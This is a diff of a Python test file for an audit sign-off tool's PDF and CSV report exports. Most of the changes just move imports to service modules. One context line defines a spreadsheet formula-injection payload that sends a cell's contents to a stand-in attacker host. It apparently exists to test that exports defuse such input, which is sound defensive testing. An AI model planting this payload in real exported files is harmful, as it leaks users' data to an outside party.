@@ -16,9 +16,10 @@ from pypdf import PdfReader
 
 from audits.models import RunStatus
 from tests.wizard.test_signoff_factories import attest, finding, progress_of, run, upload
-from wizard import report, signoff
 from wizard.checklist import STEPS
 from wizard.models import AuditEvent, SignOff
+from wizard.report import services as report
+from wizard.signoff import services as signoff
 
 REASON = "The partners keep this trust's legal name until June."
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -228,10 +229,10 @@ def test_it_refuses_an_unknown_format(practice, manager, client_for):
 def test_an_earlier_onboarding_keeps_its_report(
     practice, other_practice, client_for, manager, lead, under_way
 ):
-    from wizard import services
+    from wizard.practices.services import start_onboarding
 
     earlier = practice.current_onboarding()
-    services.start_onboarding(practice=practice, actor=lead, label="Re-check 2027")
+    start_onboarding(practice=practice, actor=lead, label="Re-check 2027")
     client = client_for(manager)
     url = reverse("wizard:report", args=[practice.pk, "pdf"])
     current = pdf_text(client.get(url).content)
@@ -250,19 +251,19 @@ def test_an_earlier_onboarding_keeps_its_report(
 
 
 def test_two_onboardings_of_a_year_get_different_file_names(practice, lead):
-    from wizard import services
+    from wizard.practices.services import start_onboarding
 
     first = practice.current_onboarding()
-    second = services.start_onboarding(practice=practice, actor=lead)
+    second = start_onboarding(practice=practice, actor=lead)
     second.started_at += datetime.timedelta(days=1)
     assert first.label == second.label
     assert report.file_name(first, "pdf") != report.file_name(second, "pdf")
 
 
 def test_a_practice_name_beyond_ascii_survives_the_download(organisation, client_for, lead):
-    from wizard import services
+    from wizard.practices.services import create_practice
 
-    practice = services.create_practice(organisation=organisation, name="Müller & Søn")
+    practice = create_practice(organisation=organisation, name="Müller & Søn")
     response = client_for(lead).get(reverse("wizard:report", args=[practice.pk, "csv"]))
     disposition = response["Content-Disposition"]
     assert disposition.startswith("attachment; filename*=utf-8''liftoff-m%C3%BCller---s%C3%B8n-")
